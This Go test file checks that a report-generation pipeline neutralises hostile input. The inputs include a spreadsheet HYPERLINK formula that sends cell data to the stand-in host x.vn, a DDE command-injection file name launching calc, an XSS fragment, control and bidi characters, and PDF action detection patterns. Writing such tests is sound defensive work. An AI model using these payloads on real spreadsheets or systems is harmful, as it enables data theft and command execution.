package main

import (
	"archive/zip"
	"bytes"
	"context"
	"encoding/csv"
	"encoding/json"
	"io"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"
	"unicode"

	"tonghop/pipeline/form"
	"tonghop/pipeline/period"
)

// What a sender may try by what she types and how she calls her file.
const (
	hostileText = "=HYPERLINK(\"http://x.vn/?\"&A1,\"mở\")"
	hostileName = "=cmd|' C calc'!A0\n\x1b[31m\u202e<script>alert(1)<&.xlsx"
)

// TestOutputsCarryNoAttack: text stays text in everything that is written.
func TestOutputsCarryNoAttack(t *testing.T) {
	t.Parallel()
	office := leastOffice(t)
	a := atWork(t, office, func() time.Time { return juneNow })
	june := period.Month{Year: 2025, Number: time.June}
	handInWith(t, a, june, "X-1", settledAt, hostileName, map[string]form.Answer{
		"CT01_KN":   {Content: form.Text(hostileText)},
		"CT01_CDEN": {Content: form.Text("@SUM(1+1)\t\x1f<b onmouseover=x>")},
	})
	handIn(t, a, june, "X-2", settledAt)
	// Names that file systems know and others trip over, each a copy that is a duplicate.
	for _, name := range []string{"-rf.xlsx", "CON.xlsx", "+84.xlsx", "\xff\xfe.xlsx", "Ba\u0300.xlsx", strings.Repeat("d\u0300", 80) + ".xlsx"} {
		data, err := os.ReadFile(filepath.Join(office, "inputs", "2025-06-X-2.xlsx"))
		if err != nil {
			t.Fatal(err)
		}
		path := filepath.Join(office, "inputs", name)
		if err := os.WriteFile(path, data, 0o644); err != nil {
			t.Logf("this file system does not take %q: %v", name, err)
			continue
		}
		if err := os.Chtimes(path, settledAt, settledAt); err != nil {
			t.Fatal(err)
		}
	}
	var out, said bytes.Buffer
	if code := run(context.Background(), juneRun(office), &out, &said, func() time.Time { return juneNow }); code != exitOK {
		t.Fatalf("exit code %d\n%s", code, said.String())
	}
	for _, command := range [][]string{
		{"status", "--period", "2025-06"}, {"check", filepath.Join(office, "inputs", hostileName)},
		{"letters", "--period", "2025-06"}, {"letters", "--period", "2025-06", "--text"},
	} {
		run(context.Background(), append(command, "--config", a.configFile), &out, &said, func() time.Time { return juneNow })
	}
	plainOnATerminal(t, out.String()+said.String())
	files := contents(t, filepath.Join(office, "outputs", "2025-06"))
	seen, pages := 0, 0
	for name, data := range files {
		switch filepath.Ext(name) {
		case ".pdf":
			pages++
			if action := regexp.MustCompile(`/(URI|JavaScript|JS|Launch|GoToR|SubmitForm)\b`).FindString(data); action != "" {
				t.Errorf("%s does something: %s", name, action)
			}
		case ".csv":
			seen += csvIsText(t, name, data)
		case ".xlsx":
			seen += workbookIsText(t, name, data)
		case ".json":
			if !json.Valid([]byte(data)) {
				t.Errorf("%s is no JSON", name)
			}
		}
		if base := filepath.Base(name); base != strings.ToValidUTF8(base, "") || strings.ContainsFunc(base, func(c rune) bool {
			return !strings.ContainsRune("-._", c) && !(c < 128 && (unicode.IsLetter(c) || unicode.IsDigit(c)))
		}) {
			t.Errorf("a file is called %q", name)
		}
	}
	if letters, err := filepath.Glob(filepath.Join(office, "outputs", "2025-06", "letters", "*.pdf")); err != nil || len(letters) == 0 || pages < len(letters)+2 {
		t.Errorf("%d PDFs, of them letters %q, %v", pages, letters, err)
	}
	if seen < 4 {
		t.Errorf("what was sent is told in %d tables and workbooks only", seen)
	}
}

// plainOnATerminal asks for no control and no mark that turns the direction.
func plainOnATerminal(t *testing.T, text string) {
	t.Helper()
	for _, line := range strings.Split(text, "\n") {
		if strings.ContainsFunc(line, func(c rune) bool { return unicode.IsControl(c) || unicode.Is(unicode.Cf, c) }) {
			t.Errorf("on the terminal: %q", line)
		}
	}
}

// csvIsText asks that no text of a table begins as a formula does. It reports
// whether what was sent is in it.
func csvIsText(t *testing.T, name, data string) int {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(data, "\ufeff"))).ReadAll()
	if err != nil {
		t.Errorf("%s: %v", name, err)
		return 0
	}
	number := regexp.MustCompile(`^-?[0-9]+(\.[0-9]+)?$`)
	for _, row := range rows {
		for _, field := range row {
			if field != "" && strings.ContainsRune("=+-@\t\r", rune(field[0])) && !number.MatchString(field) {
				t.Errorf("%s: %q", name, field)
			}
		}
	}
	return isSent(data)
}

// workbookIsText asks that what was sent stands in no formula, link or name.
func workbookIsText(t *testing.T, name, data string) int {
	t.Helper()
	archive, err := zip.NewReader(strings.NewReader(data), int64(len(data)))
	if err != nil {
		t.Errorf("%s: %v", name, err)
		return 0
	}
	formula := regexp.MustCompile(`(?s)<(?:f|formula1|formula2|definedName)\b[^>]*>([^<]*)<`)
	seen := 0
	for _, part := range archive.File {
		file, err := part.Open()
		if err != nil {
			t.Fatal(err)
		}
		content, err := io.ReadAll(file)
		if err != nil {
			t.Fatal(err)
		}
		for _, f := range formula.FindAllStringSubmatch(string(content), -1) {
			if isSent(f[1]) > 0 || strings.Contains(f[1], "cmd|") {
				t.Errorf("%s, %s: the formula %s", name, part.Name, f[1])
			}
		}
		if strings.HasSuffix(part.Name, ".rels") && strings.Contains(string(content), "x.vn") {
			t.Errorf("%s, %s: a link to what was sent", name, part.Name)
		}
		seen = max(seen, isSent(string(content)))
	}
	return seen
}

func isSent(text string) int {
	if strings.Contains(text, "HYPERLINK(") && strings.Contains(text, "x.vn") {
		return 1
	}
	return 0
}
